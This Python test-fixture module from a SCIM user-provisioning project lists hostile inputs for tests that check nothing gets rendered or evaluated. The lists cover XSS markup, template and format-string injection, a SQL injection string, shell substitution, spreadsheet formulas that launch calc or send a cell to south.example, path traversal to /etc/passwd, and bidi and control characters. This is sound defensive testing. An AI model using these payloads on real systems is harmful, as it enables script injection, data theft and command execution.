"""Hostile values that could be interpreted as markup, script, template, format string or control character."""

from typing import Any, Final

from vestibule.scim.schema import USER_TYPE, Attribute
from vestibule.scim.text import unprintable

EVIDENCE: Final = "62615533"
"""7919 * 7907: on a page only if something calculated it."""

MARKUP: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//south.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//south.example><button>Sign in</button></form>",
    "<base href=//south.example/>",
    "<meta http-equiv=refresh content='0;url=//south.example'>",
    "<link rel=stylesheet href=//south.example/x.css>",
    "<style>*{display:none}</style>",
    "<object data=//south.example/x></object>",
    "<embed src=//south.example/x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre></main></body></html><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<dialog id=keys open>",
    "<b>bold</b><i>it</i>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;&#60;&#x3c;&nbsp;",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '"><script>alert(1)</script>',
    "'><svg/onload=alert(1)>",
    "` onmouseover=alert(1)",
    'x" autofocus onfocus="alert(1)',
    '" style="position:fixed;inset:0" x="',
)
TEMPLATES: Final = (
    "{{7919*7907}}",
    "${7919*7907}",
    "#{7919*7907}",
    "<%= 7919*7907 %>",
    "{% for x in [7919*7907] %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{{ visit.session.form_token }}",
    "{#comment#}shown",
    "{0}{1}{actor}{subject}",
    "{0.__class__.__init__.__globals__}",
    "{actor.__class__}",
    "{attributes!r:>99}",
    "{",
    "}",
    "%s %d %(actor)s %n",
    "$1 $2 $(id) `id`",
    "'; DROP TABLE users; --",
    "\\u003cscript\\u003e \\x3c \\",
    "@import 'x'; =1+1; +1; -1; @SUM(1)",
)
SPREADSHEET: Final = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://south.example/?"&A1;"x")',
    "+7919*7907",
    "-7919*7907",
    "@SUM(7919*7907)",
    '",=7919*7907,"',
)
ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(2)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//south.example/x",
    "https://south.example/<script>",
    "../../../../etc/passwd",
    "/console/../static/x?done=saved#main",
)
LETTERS: Final = (
    "مرحبا ana",
    "\u05d0\u05d1\u05d2 (abc)",
    "ȩ̶͖́̽̇̈ zalgo",
    "👩\u200d👩\u200d👧 🏴 🦊",
    "\u202egnp.exe",
    "\u2066isolated\u2069 \u200fright",
    "zero\u200bwidth\ufeff",
    "tab\tand\nlines\r\nand\x0bmore\x0c",
    "bell\x07 escape\x1b[31mred\x1b[0m delete\x7f",
    "next\x85line \u2028separator\u2029",
    "﷽" * 20,
    "ﬀ ſ K İ ı ß Σ ς",
    "\ufffd \ufdd0 \U0010fffd",
)
PAYLOADS: Final = MARKUP + TEMPLATES + SPREADSHEET + ADDRESSES + LETTERS
VISIBLE: Final = tuple(each for each in PAYLOADS if unprintable(each) is None and len(each) <= 100)
LONGEST: Final = 90
"""Characters of a text that is shown whole wherever it stands."""


def joined(payloads: tuple[str, ...]) -> tuple[str, ...]:
    """Returns the payloads, those that act anywhere in a text put together into texts of at most LONGEST characters.

    A page on which the first of them has no effect is in the same state for the next, so each is proven as if alone;
    and if the first has an effect, the test fails. Values that act only at the start of a text stay alone.
    """
    anywhere = {*MARKUP, *TEMPLATES}
    texts = [""]
    for payload in (each for each in payloads if each in anywhere):
        if len(texts[-1]) + len(payload) + 1 > LONGEST:
            texts.append("")
        texts[-1] = f"{texts[-1]} {payload}".strip()
    return (*texts, *(each for each in payloads if each not in anywhere))


def described(payload: str, user_name: str, attribute: Attribute = USER_TYPE.root) -> dict[str, Any]:
    """Returns a person with that text in every text attribute."""
    document: dict[str, Any] = {}
    for part in attribute.sub_attributes:
        if part.mutability == "readOnly" or part.name in {"schemas", "active", "primary"}:
            continue
        if part.type == "complex":
            value: Any = described(payload, user_name, part)
        else:
            value = payload
        document[part.name] = [value] if part.multi_valued else value
    if attribute is USER_TYPE.root:
        document["userName"] = user_name
    return document
